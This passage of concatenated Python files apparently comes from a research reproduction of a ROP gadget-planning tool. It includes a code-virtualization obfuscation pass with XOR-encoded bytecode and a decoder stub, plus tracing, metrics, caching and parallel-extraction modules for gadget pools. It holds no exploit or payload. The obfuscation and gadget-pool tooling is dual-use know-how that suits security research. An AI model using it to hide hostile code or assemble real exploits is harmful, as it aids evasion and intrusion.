    def slot_addr(block: Block, index_temp: Temp) -> Temp:
        scaled = fn.new_temp("vm_sc")
        block.instrs.append(BinOp(scaled, "shl", index_temp, Const(3)))
        addr = fn.new_temp("vm_ad")
        block.instrs.append(BinOp(addr, "add", slots_base, scaled))
        return addr

    def read_slot(block: Block, index_temp: Temp) -> Temp:
        value = fn.new_temp("vm_v")
        block.instrs.append(Load(value, slot_addr(block, index_temp), width=8))
        return value

    def write_slot(block: Block, index_temp: Temp, value: Value) -> None:
        block.instrs.append(Store(slot_addr(block, index_temp), value, width=8))

    # Fetch block: decode [op, a, b, c] at pc.
    fetch = fn.add_block("vm_fetch")
    byte_off = fn.new_temp("vm_bo")
    fetch.instrs.append(BinOp(byte_off, "shl", pc, Const(5)))  # pc * 32
    iaddr = fn.new_temp("vm_ia")
    fetch.instrs.append(BinOp(iaddr, "add", bc_base, byte_off))
    for word, dst in enumerate((op_t, a_t, b_t, c_t)):
        waddr = fn.new_temp("vm_wa")
        fetch.instrs.append(BinOp(waddr, "add", iaddr, Const(8 * word)))
        fetch.instrs.append(Load(dst, waddr, width=8))
    # Dispatch chain (built below): fall into the first check.
    # The "next" block advances pc and loops.
    nxt = fn.add_block("vm_next")
    nxt.instrs.append(BinOp(pc, "add", pc, Const(1)))
    nxt.terminator = Jump("vm_fetch")

    handlers: List[Tuple[int, str]] = []

    def handler(name: str) -> Block:
        block = fn.add_block(f"vm_h_{name}")
        return block

    # CONST
    h = handler("const")
    write_slot(h, a_t, b_t)
    h.terminator = Jump("vm_next")
    handlers.append((OP_CONST, h.label))
    # COPY
    h = handler("copy")
    write_slot(h, a_t, read_slot(h, b_t))
    h.terminator = Jump("vm_next")
    handlers.append((OP_COPY, h.label))
    # Binary ops
    for op_name, op_code in OP_BIN.items():
        h = handler(f"bin_{op_name}")
        lhs = read_slot(h, b_t)
        rhs = read_slot(h, c_t)
        result = fn.new_temp("vm_r")
        h.instrs.append(BinOp(result, op_name, lhs, rhs))
        write_slot(h, a_t, result)
        h.terminator = Jump("vm_next")
        handlers.append((op_code, h.label))
    # Unary
    for op_name, op_code in (("not", OP_NOT), ("neg", OP_NEG)):
        h = handler(f"un_{op_name}")
        src = read_slot(h, b_t)
        result = fn.new_temp("vm_r")
        h.instrs.append(UnOp(result, op_name, src))
        write_slot(h, a_t, result)
        h.terminator = Jump("vm_next")
        handlers.append((op_code, h.label))
    # Comparisons
    for op_name, op_code in OP_CMP.items():
        h = handler(f"cmp_{op_name}")
        lhs = read_slot(h, b_t)
        rhs = read_slot(h, c_t)
        result = fn.new_temp("vm_r")
        h.instrs.append(CmpSet(result, op_name, lhs, rhs))
        write_slot(h, a_t, result)
        h.terminator = Jump("vm_next")
        handlers.append((op_code, h.label))
    # Memory
    for op_code, width, is_load in (
        (OP_LOAD8, 8, True),
        (OP_LOAD1, 1, True),
        (OP_STORE8, 8, False),
        (OP_STORE1, 1, False),
    ):
        h = handler(f"mem_{op_code}")
        if is_load:
            addr = read_slot(h, b_t)
            value = fn.new_temp("vm_r")
            h.instrs.append(Load(value, addr, width=width))
            write_slot(h, a_t, value)
        else:
            addr = read_slot(h, a_t)
            value = read_slot(h, b_t)
            h.instrs.append(Store(addr, value, width=width))
        h.terminator = Jump("vm_next")
        handlers.append((op_code, h.label))
    # LEA_LOCAL
    h = handler("lea_local")
    result = fn.new_temp("vm_r")
    h.instrs.append(BinOp(result, "add", vmem_base, b_t))
    write_slot(h, a_t, result)
    h.terminator = Jump("vm_next")
    handlers.append((OP_LEA_LOCAL, h.label))
    # ADDR_GLOBAL: chain over the globals table.
    if code.globals_table:
        first_label = _build_addr_global_chain(fn, code, a_t, b_t, write_slot)
        handlers.append((OP_ADDR_GLOBAL, first_label))
    # JMP
    h = handler("jmp")
    h.instrs.append(Copy(pc, a_t))
    h.terminator = Jump("vm_fetch")
    handlers.append((OP_JMP, h.label))
    # BRNZ
    h = handler("brnz")
    cond = read_slot(h, a_t)
    taken = fn.add_block("vm_brnz_taken")
    taken.instrs.append(Copy(pc, b_t))
    taken.terminator = Jump("vm_fetch")
    h.terminator = Branch("ne", cond, Const(0), taken.label, "vm_next")
    handlers.append((OP_BRNZ, h.label))
    # CALL: chain over the call table.
    if code.call_table:
        first_label = _build_call_chain(fn, code, slots_base, a_t, b_t, c_t, write_slot)
        handlers.append((OP_CALL, first_label))
    # RETV
    h = handler("retv")
    result = read_slot(h, a_t)
    h.terminator = Ret(result)
    handlers.append((OP_RETV, h.label))

    # Dispatch chain from the fetch block, in shuffled order.
    rng.shuffle(handlers)
    chain_target = "vm_trap"
    trap = fn.add_block("vm_trap")
    trap.terminator = Ret(Const(0))  # undefined opcode: bail out
    current_tail = trap.label
    for op_code, label in handlers:
        chk = fn.add_block(fn.new_label("vm_dispatch"))
        chk.terminator = Branch("eq", op_t, Const(op_code), label, current_tail)
        current_tail = chk.label
    fetch.terminator = Jump(current_tail)
    return fn


def _build_addr_global_chain(fn, code, a_t, b_t, write_slot):
    next_label = None
    first_label = None
    for index in reversed(range(len(code.globals_table))):
        symbol = code.globals_table[index]
        h = fn.add_block(fn.new_label(f"vm_g{index}"))
        addr = fn.new_temp("vm_ga")
        h.instrs.append(AddrOfGlobal(addr, symbol))
        write_slot(h, a_t, addr)
        h.terminator = Jump("vm_next")
        chk = fn.add_block(fn.new_label(f"vm_gchk{index}"))
        fallthrough = next_label if next_label is not None else "vm_next"
        chk.terminator = Branch("eq", b_t, Const(index), h.label, fallthrough)
        next_label = chk.label
        first_label = chk.label
    return first_label


def _build_call_chain(fn, code, slots_base, a_t, b_t, c_t, write_slot):
    next_label = None
    first_label = None
    for index in reversed(range(len(code.call_table))):
        name, arity = code.call_table[index]
        h = fn.add_block(fn.new_label(f"vm_call{index}"))
        args = []
        for i in range(arity):
            idx = fn.new_temp("vm_ci")
            h.instrs.append(BinOp(idx, "add", c_t, Const(i)))
            scaled = fn.new_temp("vm_cs")
            h.instrs.append(BinOp(scaled, "shl", idx, Const(3)))
            addr = fn.new_temp("vm_ca")
            h.instrs.append(BinOp(addr, "add", slots_base, scaled))
            value = fn.new_temp("vm_cv")
            h.instrs.append(Load(value, addr, width=8))
            args.append(value)
        result = fn.new_temp("vm_cr")
        h.instrs.append(CallInstr(result, name, tuple(args)))
        write_slot(h, a_t, result)
        h.terminator = Jump("vm_next")
        chk = fn.add_block(fn.new_label(f"vm_callchk{index}"))
        fallthrough = next_label if next_label is not None else "vm_next"
        chk.terminator = Branch("eq", b_t, Const(index), h.label, fallthrough)
        next_label = chk.label
        first_label = chk.label
    return first_label


class Virtualization(ObfuscationPass):
    """Tigress-style per-function virtualization."""

    name = "virtualization"

    def __init__(self, seed: int = 0, encode_bytecode: bool = False):
        super().__init__(seed)
        #: When set, the bytecode is stored XOR-encoded and the
        #: interpreter decodes it on first entry — the JIT-dynamic
        #: approximation (see DESIGN.md).
        self.encode_bytecode = encode_bytecode

    def run_function(self, module: IRModule, fn: IRFunction) -> None:
        rng = self._rng_for(fn)
        code = _Translator(fn).translate()
        bytecode_symbol = f"__bc_{fn.name}"
        blob = code.to_bytes()
        interp = _build_interpreter(fn.name, list(fn.params), code, bytecode_symbol, rng)
        if self.encode_bytecode:
            key = rng.getrandbits(8) or 0xA5
            blob = bytes(b ^ key for b in blob)
            _add_decoder_preamble(module, interp, bytecode_symbol, len(blob), key)
        module.global_data[bytecode_symbol] = blob
        module.functions[fn.name] = interp


def _add_decoder_preamble(
    module: IRModule, interp: IRFunction, bytecode_symbol: str, size: int, key: int
) -> None:
    """Prepend a run-once XOR decoder loop to the interpreter entry.

    A per-function "decoded" flag in .data guards the loop, so repeated
    and recursive calls skip decoding.
    """
    flag_symbol = f"__bc_flag_{interp.name}"
    module.global_vars[flag_symbol] = 8

    old_entry = interp.entry
    check = interp.add_block(interp.new_label("jit_check"))
    decode_head = interp.add_block(interp.new_label("jit_head"))
    decode_body = interp.add_block(interp.new_label("jit_body"))
    done = interp.add_block(interp.new_label("jit_done"))

    flag_addr = interp.new_temp("jit_fa")
    flag_val = interp.new_temp("jit_fv")
    check.instrs = [
        AddrOfGlobal(flag_addr, flag_symbol),
        Load(flag_val, flag_addr, width=8),
    ]
    check.terminator = Branch("eq", flag_val, Const(0), decode_head.label, old_entry)

    base = interp.new_temp("jit_base")
    index = interp.new_temp("jit_i")
    decode_head.instrs = [
        AddrOfGlobal(base, bytecode_symbol),
        Copy(index, Const(0)),
        Store(flag_addr, Const(1), width=8),
    ]
    decode_head.terminator = Jump(decode_body.label)

    addr = interp.new_temp("jit_a")
    byte = interp.new_temp("jit_b")
    dec = interp.new_temp("jit_d")
    decode_body.instrs = [
        BinOp(addr, "add", base, index),
        Load(byte, addr, width=1),
        BinOp(dec, "xor", byte, Const(key)),
        Store(addr, dec, width=1),
        BinOp(index, "add", index, Const(1)),
    ]
    decode_body.terminator = Branch("ult", index, Const(size), decode_body.label, done.label)
    done.terminator = Jump(old_entry)
    interp.entry = check.label
