"""repro.obs — dependency-free observability for the whole pipeline.

Two cooperating pieces:

* :mod:`~repro.obs.trace` — hierarchical trace spans (wall/CPU time,
  integer counters, parent links) with deterministic JSONL export,
  schema validation, and worker-tree adoption for multiprocessing
  stages;
* :mod:`~repro.obs.metrics` — a process-local registry of counters,
  gauges and power-of-two histograms, mergeable across workers.

Instrumented stages create spans unconditionally (a span with no
active tracer still measures, so ``ExtractionStats``/
``SubsumptionStats`` wall fields and ``BENCH_*.json`` all derive from
the same measurements) and only pay the tree-keeping cost under
``with tracing(Tracer()):`` — what the ``--trace FILE`` CLI flag does.
"""

from .metrics import Counter, Gauge, Histogram, MetricsRegistry, metrics, reset_metrics
from .trace import (
    TIMESTAMP_FIELDS,
    TRACE_FORMAT,
    TRACE_VERSION,
    Span,
    TraceSchemaError,
    Tracer,
    active_tracer,
    add,
    format_trace_summary,
    span,
    strip_timestamps,
    tracing,
    validate_trace_file,
    validate_trace_lines,
)

__all__ = [
    "Counter",
    "Gauge",
    "Histogram",
    "MetricsRegistry",
    "Span",
    "TIMESTAMP_FIELDS",
    "TRACE_FORMAT",
    "TRACE_VERSION",
    "TraceSchemaError",
    "Tracer",
    "active_tracer",
    "add",
    "format_trace_summary",
    "metrics",
    "reset_metrics",
    "span",
    "strip_timestamps",
    "tracing",
    "validate_trace_file",
    "validate_trace_lines",
]
