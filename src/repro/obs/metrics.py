"""Process-local metrics registry: counters, gauges, histograms.

Deliberately dependency-free and deterministic: histograms bucket by
power of two (``bit_length``), so two runs over the same inputs export
identical snapshots.  Worker processes keep their own registry and
ship :meth:`MetricsRegistry.to_dict` snapshots back with their span
trees; the parent folds them in with :meth:`MetricsRegistry.merge`.
"""

from __future__ import annotations

from typing import Any, Dict, Optional


class Counter:
    """A monotonically increasing integer."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0

    def inc(self, n: int = 1) -> None:
        self.value += n


class Gauge:
    """A point-in-time value (last write wins)."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0

    def set(self, value: int) -> None:
        self.value = value


class Histogram:
    """Power-of-two bucketed distribution of non-negative integers.

    Bucket ``b`` counts observations with ``bit_length() == b`` (zero
    lands in bucket 0), i.e. bucket 3 holds values 4..7.  Exact count,
    sum, min and max ride along so means survive the bucketing.
    """

    __slots__ = ("count", "total", "min", "max", "buckets")

    def __init__(self) -> None:
        self.count = 0
        self.total = 0
        self.min: Optional[int] = None
        self.max: Optional[int] = None
        self.buckets: Dict[int, int] = {}

    def observe(self, value: int) -> None:
        value = int(value)
        self.count += 1
        self.total += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value
        bucket = value.bit_length() if value > 0 else 0
        self.buckets[bucket] = self.buckets.get(bucket, 0) + 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def to_dict(self) -> Dict[str, Any]:
        return {
            "count": self.count,
            "sum": self.total,
            "min": self.min,
            "max": self.max,
            "buckets": {str(k): self.buckets[k] for k in sorted(self.buckets)},
        }


class MetricsRegistry:
    """Named counters/gauges/histograms for one process."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}

    def counter(self, name: str) -> Counter:
        counter = self._counters.get(name)
        if counter is None:
            counter = self._counters[name] = Counter()
        return counter

    def gauge(self, name: str) -> Gauge:
        gauge = self._gauges.get(name)
        if gauge is None:
            gauge = self._gauges[name] = Gauge()
        return gauge

    def histogram(self, name: str) -> Histogram:
        histogram = self._histograms.get(name)
        if histogram is None:
            histogram = self._histograms[name] = Histogram()
        return histogram

    def to_dict(self) -> Dict[str, Any]:
        """A deterministic, JSON-ready snapshot (names sorted)."""
        return {
            "counters": {k: self._counters[k].value for k in sorted(self._counters)},
            "gauges": {k: self._gauges[k].value for k in sorted(self._gauges)},
            "histograms": {k: self._histograms[k].to_dict() for k in sorted(self._histograms)},
        }

    def merge(self, snapshot: Dict[str, Any]) -> None:
        """Fold a worker's :meth:`to_dict` snapshot into this registry."""
        for name, value in snapshot.get("counters", {}).items():
            self.counter(name).inc(int(value))
        for name, value in snapshot.get("gauges", {}).items():
            self.gauge(name).set(int(value))
        for name, data in snapshot.get("histograms", {}).items():
            histogram = self.histogram(name)
            histogram.count += int(data.get("count", 0))
            histogram.total += int(data.get("sum", 0))
            for bound in ("min", "max"):
                value = data.get(bound)
                if value is None:
                    continue
                current = getattr(histogram, bound)
                if current is None:
                    setattr(histogram, bound, int(value))
                elif bound == "min":
                    histogram.min = min(current, int(value))
                else:
                    histogram.max = max(current, int(value))
            for bucket, count in data.get("buckets", {}).items():
                bucket = int(bucket)
                histogram.buckets[bucket] = histogram.buckets.get(bucket, 0) + int(count)

    def reset(self) -> None:
        self._counters.clear()
        self._gauges.clear()
        self._histograms.clear()


#: The process-wide registry most instrumentation writes to.
_GLOBAL = MetricsRegistry()


def metrics() -> MetricsRegistry:
    return _GLOBAL


def reset_metrics() -> None:
    _GLOBAL.reset()
