"""Hierarchical trace spans with deterministic export.

A :class:`Span` measures one pipeline stage: wall time
(``perf_counter``), CPU time (``process_time``), and a dict of integer
counters, with parent links forming a tree.  Spans *always* measure —
``with span("extract.symex") as sp`` works with no tracer installed,
and the enclosing stage derives its stats fields from ``sp.wall`` — so
timing has exactly one source of truth whether or not a trace is being
recorded.  When a :class:`Tracer` is active (``with tracing(t):``),
spans additionally attach themselves to the tracer's tree.

Worker processes build their own little trees, ship them back as plain
dicts (:meth:`Span.to_dict` — JSON/pickle friendly), and the parent
adopts them in shard order (:meth:`Tracer.adopt`).  Because shard
order is fixed by the chunking, the merged tree is deterministic: two
runs over the same inputs export byte-identical JSONL apart from the
timestamp fields (``wall`` / ``cpu``).

The JSONL schema (one object per line, sorted keys):

* line 1: ``{"format": "nfl-trace", "type": "meta", "version": 1}``
* span lines: ``{"counters": {...}, "cpu": f, "id": n, "name": s,
  "parent": n|null, "type": "span", "wall": f}`` — ids are depth-first
  preorder over root spans, so structure is reproducible;
* optional final line: ``{"metrics": {...}, "type": "metrics"}``.
"""

from __future__ import annotations

import json
import time
from contextlib import contextmanager
from typing import Any, Dict, Iterator, List, Optional, Tuple

TRACE_FORMAT = "nfl-trace"
TRACE_VERSION = 1

#: JSONL fields that hold measured time — the only fields allowed to
#: differ between two runs of the same workload (see
#: :func:`strip_timestamps`).
TIMESTAMP_FIELDS = ("wall", "cpu")


class TraceSchemaError(ValueError):
    """An exported trace does not conform to the JSONL schema."""


class Span:
    """One timed stage.  Usable as a context manager."""

    __slots__ = ("name", "wall", "cpu", "counters", "children", "_t0", "_c0", "_tracer")

    def __init__(self, name: str, tracer: Optional["Tracer"] = None) -> None:
        self.name = name
        self.wall = 0.0
        self.cpu = 0.0
        self.counters: Dict[str, int] = {}
        self.children: List[Span] = []
        self._t0 = 0.0
        self._c0 = 0.0
        self._tracer = tracer

    def add(self, key: str, n: int = 1) -> None:
        """Bump an integer counter on this span."""
        self.counters[key] = self.counters.get(key, 0) + n

    def wall_so_far(self) -> float:
        """Elapsed wall time while the span is still open (early
        returns read this before ``__exit__`` stamps ``wall``)."""
        return time.perf_counter() - self._t0

    def __enter__(self) -> "Span":
        if self._tracer is not None:
            self._tracer._push(self)
        self._t0 = time.perf_counter()
        self._c0 = time.process_time()
        return self

    def __exit__(self, *exc: Any) -> None:
        self.wall = time.perf_counter() - self._t0
        self.cpu = time.process_time() - self._c0
        if self._tracer is not None:
            self._tracer._pop(self)

    # -- worker transport ---------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        """A JSON-friendly tree rooted at this span."""
        return {
            "name": self.name,
            "wall": self.wall,
            "cpu": self.cpu,
            "counters": dict(self.counters),
            "children": [c.to_dict() for c in self.children],
        }

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "Span":
        span = cls(str(data["name"]))
        span.wall = float(data.get("wall", 0.0))
        span.cpu = float(data.get("cpu", 0.0))
        span.counters = {str(k): int(v) for k, v in data.get("counters", {}).items()}
        span.children = [cls.from_dict(c) for c in data.get("children", [])]
        return span

    def walk(self) -> Iterator[Tuple["Span", int]]:
        """Depth-first preorder (span, depth) over this subtree."""
        stack: List[Tuple[Span, int]] = [(self, 0)]
        while stack:
            node, depth = stack.pop()
            yield node, depth
            for child in reversed(node.children):
                stack.append((child, depth + 1))

    def find(self, name: str) -> Optional["Span"]:
        """The first span named ``name`` in this subtree (preorder)."""
        for node, _ in self.walk():
            if node.name == name:
                return node
        return None

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Span({self.name!r}, wall={self.wall:.4f}, counters={self.counters})"


class Tracer:
    """Collects a forest of spans for one run (one process)."""

    def __init__(self) -> None:
        self.roots: List[Span] = []
        self._stack: List[Span] = []

    def span(self, name: str) -> Span:
        return Span(name, tracer=self)

    @property
    def current(self) -> Optional[Span]:
        return self._stack[-1] if self._stack else None

    def add(self, key: str, n: int = 1) -> None:
        """Bump a counter on the innermost open span, if any."""
        if self._stack:
            self._stack[-1].add(key, n)

    def _push(self, span: Span) -> None:
        if self._stack:
            self._stack[-1].children.append(span)
        else:
            self.roots.append(span)
        self._stack.append(span)

    def _pop(self, span: Span) -> None:
        # Usually a plain stack pop, but a span held open across a
        # generator's yields (plan.search) can exit out of order when
        # the generator is abandoned — remove by identity so later
        # spans don't get misparented under a dead one.
        for index in range(len(self._stack) - 1, -1, -1):
            if self._stack[index] is span:
                del self._stack[index]
                return

    def adopt(self, tree: Dict[str, Any], parent: Optional[Span] = None) -> Span:
        """Attach a worker's serialized span tree under ``parent``
        (default: the innermost open span, else a new root).

        Callers adopt shard trees in shard order, which makes the
        merged forest deterministic — the same discipline as the
        byte-identical pool merges.
        """
        span = Span.from_dict(tree)
        target = parent if parent is not None else self.current
        if target is not None:
            target.children.append(span)
        else:
            self.roots.append(span)
        return span

    # -- export -------------------------------------------------------------

    def iter_spans(self) -> Iterator[Tuple[Span, int]]:
        for root in self.roots:
            for item in root.walk():
                yield item

    def to_lines(self, metrics: Optional[Dict[str, Any]] = None) -> List[str]:
        """The JSONL export: meta line, span lines, optional metrics."""
        lines = [
            json.dumps(
                {"type": "meta", "format": TRACE_FORMAT, "version": TRACE_VERSION},
                sort_keys=True,
            )
        ]
        ids: Dict[int, int] = {}
        next_id = 0
        for root in self.roots:
            parent_of: Dict[int, Optional[int]] = {id(root): None}
            for span, _ in root.walk():
                sid = next_id
                next_id += 1
                ids[id(span)] = sid
                for child in span.children:
                    parent_of[id(child)] = sid
                lines.append(
                    json.dumps(
                        {
                            "type": "span",
                            "id": sid,
                            "parent": parent_of[id(span)],
                            "name": span.name,
                            "wall": round(span.wall, 6),
                            "cpu": round(span.cpu, 6),
                            "counters": {k: span.counters[k] for k in sorted(span.counters)},
                        },
                        sort_keys=True,
                    )
                )
        if metrics is not None:
            lines.append(json.dumps({"type": "metrics", "metrics": metrics}, sort_keys=True))
        return lines

    def write_jsonl(self, path: Any, metrics: Optional[Dict[str, Any]] = None) -> int:
        """Write the JSONL export; returns the number of span lines."""
        lines = self.to_lines(metrics=metrics)
        with open(path, "w") as handle:
            handle.write("\n".join(lines) + "\n")
        return sum(1 for line in lines if '"type": "span"' in line)


# -- the active tracer --------------------------------------------------------

_ACTIVE: Optional[Tracer] = None


def active_tracer() -> Optional[Tracer]:
    return _ACTIVE


@contextmanager
def tracing(tracer: Tracer) -> Iterator[Tracer]:
    """Install ``tracer`` as the process-wide active tracer."""
    global _ACTIVE
    previous = _ACTIVE
    _ACTIVE = tracer
    try:
        yield tracer
    finally:
        _ACTIVE = previous


def span(name: str) -> Span:
    """A span against the active tracer (still measures without one)."""
    return Span(name, tracer=_ACTIVE)


def add(key: str, n: int = 1) -> None:
    """Bump a counter on the active tracer's innermost span, if any."""
    if _ACTIVE is not None:
        _ACTIVE.add(key, n)


# -- schema validation / loading ---------------------------------------------


def validate_trace_lines(lines: List[str]) -> List[Dict[str, Any]]:
    """Validate a JSONL export; returns the parsed span records.

    Raises :class:`TraceSchemaError` on any deviation from the schema:
    bad meta line, malformed JSON, missing/ill-typed span fields,
    dangling parent references, or non-preorder ids.
    """
    if not lines:
        raise TraceSchemaError("empty trace")
    try:
        meta = json.loads(lines[0])
    except json.JSONDecodeError as exc:
        raise TraceSchemaError(f"meta line is not JSON: {exc}") from None
    if meta.get("type") != "meta" or meta.get("format") != TRACE_FORMAT:
        raise TraceSchemaError(f"bad meta line: {meta!r}")
    if meta.get("version") != TRACE_VERSION:
        raise TraceSchemaError(f"unsupported trace version: {meta.get('version')!r}")
    spans: List[Dict[str, Any]] = []
    seen_ids: set = set()
    for lineno, line in enumerate(lines[1:], start=2):
        if not line.strip():
            continue
        try:
            record = json.loads(line)
        except json.JSONDecodeError as exc:
            raise TraceSchemaError(f"line {lineno} is not JSON: {exc}") from None
        kind = record.get("type")
        if kind == "metrics":
            if not isinstance(record.get("metrics"), dict):
                raise TraceSchemaError(f"line {lineno}: metrics payload must be an object")
            continue
        if kind != "span":
            raise TraceSchemaError(f"line {lineno}: unexpected record type {kind!r}")
        if not isinstance(record.get("id"), int) or not isinstance(record.get("name"), str):
            raise TraceSchemaError(f"line {lineno}: span needs integer id and string name")
        parent = record.get("parent")
        if parent is not None and parent not in seen_ids:
            raise TraceSchemaError(f"line {lineno}: parent {parent!r} not seen before child")
        for field in TIMESTAMP_FIELDS:
            if not isinstance(record.get(field), (int, float)):
                raise TraceSchemaError(f"line {lineno}: span field {field!r} must be numeric")
        counters = record.get("counters")
        if not isinstance(counters, dict) or not all(
            isinstance(v, int) for v in counters.values()
        ):
            raise TraceSchemaError(f"line {lineno}: counters must map names to integers")
        seen_ids.add(record["id"])
        spans.append(record)
    if not spans:
        raise TraceSchemaError("trace holds no spans")
    return spans


def validate_trace_file(path: Any) -> List[Dict[str, Any]]:
    with open(path) as handle:
        return validate_trace_lines(handle.read().splitlines())


def strip_timestamps(lines: List[str]) -> List[str]:
    """The export with timestamp fields removed — two runs of the same
    workload must agree on this projection byte for byte."""
    stable: List[str] = []
    for line in lines:
        if not line.strip():
            continue
        record = json.loads(line)
        for field in TIMESTAMP_FIELDS:
            record.pop(field, None)
        stable.append(json.dumps(record, sort_keys=True))
    return stable


def format_trace_summary(lines: List[str]) -> str:
    """A human tree rendering of a JSONL trace (``nfl trace FILE``)."""
    spans = validate_trace_lines(lines)
    depth: Dict[int, int] = {}
    out: List[str] = []
    for record in spans:
        parent = record["parent"]
        d = 0 if parent is None else depth[parent] + 1
        depth[record["id"]] = d
        counters = record["counters"]
        suffix = ""
        if counters:
            suffix = "  [" + " ".join(f"{k}={counters[k]}" for k in sorted(counters)) + "]"
        out.append(
            f"{'  ' * d}{record['name']:<{max(1, 36 - 2 * d)}}"
            f" wall={record['wall']:.3f}s cpu={record['cpu']:.3f}s{suffix}"
        )
    return "\n".join(out)
