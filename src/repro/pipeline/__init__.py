"""repro.pipeline — the performance layer over extraction + winnowing.

Three cooperating pieces (see DESIGN.md's inventory):

* :mod:`~repro.pipeline.serialize` — canonical, versioned byte encoding
  for gadget records and pools (workers and the cache both need it);
* :mod:`~repro.pipeline.cache` — persistent content-addressed pool
  store keyed by (image bytes, config, pipeline/format versions);
* :mod:`~repro.pipeline.parallel` — sharded extraction and winnowing
  with merges that are byte-identical to the serial reference paths.
"""

from .cache import CACHE_DIR_ENV, CacheStats, PIPELINE_VERSION, ResultCache, default_cache_dir
from .parallel import extract_pool, run_pipeline, winnow_pool
from .serialize import (
    FORMAT_VERSION,
    SerializationError,
    config_key_bytes,
    pool_from_bytes,
    pool_to_bytes,
    record_from_bytes,
    record_to_bytes,
)

__all__ = [
    "CACHE_DIR_ENV",
    "CacheStats",
    "FORMAT_VERSION",
    "PIPELINE_VERSION",
    "ResultCache",
    "SerializationError",
    "config_key_bytes",
    "default_cache_dir",
    "extract_pool",
    "pool_from_bytes",
    "pool_to_bytes",
    "record_from_bytes",
    "record_to_bytes",
    "run_pipeline",
    "winnow_pool",
]
