"""Persistent content-addressed cache for extraction/winnow results.

Extraction and subsumption dominate Gadget-Planner's end-to-end cost
(Table VII), yet both are pure functions of (image bytes, config).  So
warm re-runs — the common case when sweeping plan budgets, goals, or
corpus-scale configurations over unchanged binaries — can skip the
symbolic executor and the solver entirely by reloading the pool from
disk.

Keying: ``blake2b`` over the image bytes, the canonicalized
:class:`~repro.gadgets.extract.ExtractionConfig`, the pool kind
(``extract`` / ``winnow``), :data:`PIPELINE_VERSION`, and the
serialization :data:`~repro.pipeline.serialize.FORMAT_VERSION`.  Any
input or algorithm change produces a *different key*, so stale entries
are unreachable rather than wrong, and no explicit invalidation is
needed.

Entries are one file each (JSON meta header + canonical pool bytes),
written atomically via rename, so concurrent producers race benignly:
both compute the same bytes, last rename wins.  A corrupt or
truncated entry is deleted and treated as a miss.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Tuple

from ..gadgets.record import GadgetRecord
from .serialize import FORMAT_VERSION, config_key_bytes, pool_from_bytes, pool_to_bytes

#: Bump when extraction/winnow semantics change: every old key dies.
PIPELINE_VERSION = 2

#: Environment override for the default cache root.
CACHE_DIR_ENV = "NFL_CACHE_DIR"

_ENTRY_MAGIC = b"NFLC"


def default_cache_dir() -> Path:
    override = os.environ.get(CACHE_DIR_ENV)
    if override:
        return Path(override)
    return Path.home() / ".cache" / "nfl"


@dataclass
class CacheStats:
    """Hit/miss/store counters for one :class:`ResultCache` instance."""

    hits: int = 0
    misses: int = 0
    stores: int = 0

    @property
    def lookups(self) -> int:
        return self.hits + self.misses

    @property
    def hit_rate(self) -> float:
        return self.hits / self.lookups if self.lookups else 0.0


@dataclass
class ResultCache:
    """Content-addressed pool store under one root directory."""

    root: Path = field(default_factory=default_cache_dir)
    stats: CacheStats = field(default_factory=CacheStats)

    def __post_init__(self) -> None:
        self.root = Path(self.root)

    # -- keying -----------------------------------------------------------

    def key(self, kind: str, image_bytes: bytes, config: Any) -> str:
        h = hashlib.blake2b(digest_size=20)
        for part in (
            b"nfl-pool-cache",
            str(PIPELINE_VERSION).encode(),
            str(FORMAT_VERSION).encode(),
            kind.encode(),
            config_key_bytes(config),
        ):
            h.update(part)
            h.update(b"\x00")
        h.update(image_bytes)
        return h.hexdigest()

    def _path(self, key: str) -> Path:
        return self.root / key[:2] / f"{key}.pool"

    # -- lookup / store ---------------------------------------------------

    def load_pool(
        self, kind: str, image_bytes: bytes, config: Any
    ) -> Optional[Tuple[List[GadgetRecord], Dict[str, Any]]]:
        """The cached (records, meta) for this key, or None on a miss."""
        path = self._path(self.key(kind, image_bytes, config))
        try:
            blob = path.read_bytes()
        except OSError:
            self.stats.misses += 1
            return None
        try:
            records, meta = _decode_entry(blob)
        except Exception:
            # Corrupt/truncated entry (killed writer, disk trouble):
            # drop it so the next run rewrites a good one.
            try:
                path.unlink()
            except OSError:
                pass
            self.stats.misses += 1
            return None
        self.stats.hits += 1
        return records, meta

    def store_pool(
        self,
        kind: str,
        image_bytes: bytes,
        config: Any,
        records: Sequence[GadgetRecord],
        meta: Optional[Dict[str, Any]] = None,
    ) -> Path:
        """Atomically persist a pool; returns the entry path."""
        path = self._path(self.key(kind, image_bytes, config))
        path.parent.mkdir(parents=True, exist_ok=True)
        blob = _encode_entry(records, meta or {})
        fd, tmp_name = tempfile.mkstemp(dir=str(path.parent), suffix=".tmp")
        try:
            with os.fdopen(fd, "wb") as handle:
                handle.write(blob)
            os.replace(tmp_name, path)
        except BaseException:
            try:
                os.unlink(tmp_name)
            except OSError:
                pass
            raise
        self.stats.stores += 1
        return path


def _encode_entry(records: Sequence[GadgetRecord], meta: Dict[str, Any]) -> bytes:
    meta_blob = json.dumps(meta, sort_keys=True).encode()
    return _ENTRY_MAGIC + struct.pack("<I", len(meta_blob)) + meta_blob + pool_to_bytes(records)


def _decode_entry(blob: bytes) -> Tuple[List[GadgetRecord], Dict[str, Any]]:
    if blob[: len(_ENTRY_MAGIC)] != _ENTRY_MAGIC:
        raise ValueError("bad cache entry magic")
    offset = len(_ENTRY_MAGIC)
    (meta_len,) = struct.unpack_from("<I", blob, offset)
    offset += 4
    meta = json.loads(blob[offset : offset + meta_len].decode())
    records = pool_from_bytes(blob[offset + meta_len :])
    return records, meta
