"""Sharded extraction/winnowing with deterministic merges.

The two heavy stages parallelize along natural seams:

* **Extraction** — candidate windows are independent, so the candidate
  list is split into contiguous chunks and each worker symbolically
  executes its chunk on a private executor.  The serial path assigns
  gadget ids sequentially over kept records in candidate order, so
  concatenating per-chunk results in chunk order and renumbering
  reproduces the serial pool byte for byte.

* **Winnowing** — fingerprint buckets cannot subsume across buckets,
